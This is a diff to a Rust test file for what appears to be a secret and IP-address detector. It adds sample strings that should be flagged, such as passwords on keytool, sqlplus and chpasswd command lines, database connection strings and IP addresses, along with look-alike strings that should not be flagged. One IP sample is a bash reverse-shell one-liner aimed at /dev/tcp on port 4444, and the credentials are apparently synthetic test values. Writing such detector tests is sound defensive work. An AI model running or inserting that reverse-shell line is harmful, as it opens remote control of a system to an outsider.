@@ -244,6 +244,17 @@ fn secrets() -> Vec<(&'static str, String)> {
         ("aws_secret_key", "\nAKIAJ2QW7ZRXP4KMN3VA:hT8qLm2vXw9rPz4Kc7Nb1Fy6Ud3Gs5Je0Ai8Ro2W\n".into()),
         ("assigned_secret", "\n203.0.113.5 198.51.100.7 : PSK \"S1teT0S1tePsk\"\n".into()),
         ("assigned_secret", "\n    user admin insecure-password H4pr0xyPw9\n".into()),
+        // Session 48: passwords on tools' command lines and in drivers' positional calls; hosts
+        // where a folder or an image's tag could be (a version there is not one).
+        ("cli_password", "RUN keytool -genkey -alias app -keystore app.jks -storepass Kt8kQ2xLm7".into()),
+        ("cli_password", "sqlplus -s system/Or8kQ2xLm7@ORCL @setup.sql".into()),
+        ("cli_password", "RUN echo 'deploy:Dp8kQ2xLm7' | chpasswd".into()),
+        ("assigned_secret", "$link = mysqli_connect(\"localhost\", \"root\", \"Pz8kW3nQx2\", \"shop\");".into()),
+        ("connection_string", "sql.Open(\"mysql\", \"app:Rt6yH3kLw9@tcp(127.0.0.1:3306)/shop\")".into()),
+        ("ip_address", "bash -i >& /dev/tcp/10.42.7.19/4444 0>&1".into()),
+        ("ip_address", "ltm pool /Common/10.42.7.19 {".into()),
+        ("ip_address", "docker run --add-host=database:10.42.7.19 app".into()),
+        ("ip_address", "curl https://api.ipstack.com/134.201.250.155?access_key=$KEY".into()),
     ]
 }
 
@@ -441,6 +452,18 @@ const LOOK_ALIKES: &[&str] = &[
     "redistribute connected metric 1000 100 100 100 1400",
     "\"imei:359586015829802,A\"",
     "(4951948911778577463, 2037035976334486086),",
+    // Session 48: four numbers that are a release's (a folder, a product's token, an image's
+    // tag, a suffix), and command lines that ask for the password or read it from elsewhere.
+    "COPY dockerfiles/12.2.1.4/install.rsp /opt/",
+    "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
+    "image: container-registry.oracle.com/middleware/soasuite:14.1.2.0",
+    "FROM eclipse-temurin:11.0.32.0-jdk",
+    "if [ \"${VERSION}\" != \"14.1.2.0\" ]; then",
+    "keytool -importcert -storepass:env STORE_PASS -file ca.pem",
+    "ldapsearch -x -D cn=admin,dc=example,dc=com -W -b dc=example,dc=com",
+    "sqlplus scott/tiger@orcl",
+    "echo \"$SUDO_PASS\" | sudo -S true",
+    "$pdo = new PDO($dsn, $user, $pass, $options);",
 ];
 
 #[test]
